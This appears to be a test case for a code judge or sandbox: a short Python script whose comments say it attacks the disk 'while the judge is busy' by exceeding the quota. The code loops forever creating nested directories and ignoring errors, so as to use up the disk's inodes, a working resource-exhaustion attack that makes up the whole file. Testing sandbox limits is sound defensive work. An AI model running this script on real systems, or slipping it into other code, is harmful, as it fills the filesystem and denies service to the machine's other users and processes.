# attacks: the disk: folders without end, beside and in each other, while the judge is busy
# success: more is held than the quota
# stock: it would use up the inodes of the disk
# %% before
import os

_number = 0
while True:
    try:
        os.makedirs(f"{_number}/a/b/c")
    except OSError:
        pass
    _number += 1
